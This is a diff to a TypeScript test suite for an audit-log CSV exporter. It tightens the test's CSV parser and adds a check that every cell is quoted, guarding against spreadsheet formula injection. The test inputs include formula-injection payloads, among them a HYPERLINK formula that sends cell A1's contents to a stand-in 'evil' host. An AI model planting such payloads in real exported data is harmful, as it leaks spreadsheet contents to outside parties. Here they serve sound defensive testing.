@@ -30,32 +30,37 @@ function entry(changes: Partial<AuditEntry> = {}): AuditEntry {
   };
 }
 
-/** The cells of each line, undoing RFC 4180 quoting. */
+/**
+ * The cells of each line, undoing RFC 4180 quoting; throws on any cell that is not in double
+ * quotes (every cell must be, so that a spreadsheet splitting on `;` still sees one cell).
+ */
 function parse(csv: string): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < csv.length; i++) {
-    const c = csv[i]!;
-    if (quoted) {
-      if (c === '"' && csv[i + 1] === '"') {
+  let i = 0;
+  while (i < csv.length) {
+    if (csv[i] !== '"') throw new Error(`unquoted cell at ${i}: ${JSON.stringify(csv.slice(i, i + 20))}`);
+    let cell = '';
+    i++;
+    for (;;) {
+      if (i >= csv.length) throw new Error('unterminated cell');
+      if (csv[i] === '"' && csv[i + 1] === '"') {
         cell += '"';
+        i += 2;
+      } else if (csv[i] === '"') {
         i++;
-      } else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      row.push(cell);
-      cell = '';
-    } else if (c === '\r' && csv[i + 1] === '\n') {
-      row.push(cell);
+        break;
+      } else cell += csv[i++];
+    }
+    row.push(cell);
+    if (csv[i] === ',') i++;
+    else if (csv.startsWith('\r\n', i)) {
       rows.push(row);
       row = [];
-      cell = '';
-      i++;
-    } else cell += c;
+      i += 2;
+    } else throw new Error(`junk after a cell at ${i}: ${JSON.stringify(csv.slice(i, i + 20))}`);
   }
+  if (row.length) throw new Error('last line has no CRLF');
   return rows;
 }
 
@@ -86,7 +91,23 @@ describe('the audit CSV', () => {
     ]);
   });
 
-  it('defuses cells a spreadsheet would run as a formula, and quotes commas, quotes and line breaks', () => {
+  it('quotes every cell, so that a spreadsheet splitting on ";" cannot make a formula of part of one', () => {
+    const csv = auditCsv([entry({ actorName: 'a;=HYPERLINK("http://evil/?"&A1;"x")', keyName: 'plain', ticket: 'b;+1', verification: 'other: called;@SUM(A1)' })], words).slice(1);
+    const rows = parse(csv);
+    expect(rows).toHaveLength(2);
+    expect(rows.every((r) => r.length === 14)).toBe(true);
+    expect(rows[1]?.[2]).toBe('a;=HYPERLINK("http://evil/?"&A1;"x")');
+    expect(rows[1]?.[7]).toBe('plain');
+    expect(rows[1]?.[9]).toBe('b;+1');
+    // On the wire: the whole name inside one pair of quotes, and no cell outside quotes at all.
+    expect(csv).toContain('"a;=HYPERLINK(""http://evil/?""&A1;""x"")"');
+    expect(csv).toContain(',"plain",');
+    expect(csv).toContain('"7",');
+    // A ";" is never outside quotes, so no separator can start a cell there.
+    expect(csv.replace(/"(?:[^"]|"")*"/g, '')).toMatch(/^[,\r\n]*$/);
+  });
+
+  it('defuses cells a spreadsheet would run as a formula, and keeps commas, quotes and line breaks inside one cell', () => {
     const names = ['=HYPERLINK("http://x")', '+1+1', '-2', '@SUM(A1)', '\tTab', 'a, "b"\nc'];
     const rows = parse(auditCsv(names.map((actorName) => entry({ actorName, ticket: null, accessKeyId: null, mfaDevice: null, verification: null })), words).slice(1));
     expect(rows.slice(1).map((r) => r[2])).toEqual(["'=HYPERLINK(\"http://x\")", "'+1+1", "'-2", "'@SUM(A1)", "'\tTab", 'a, "b"\nc']);
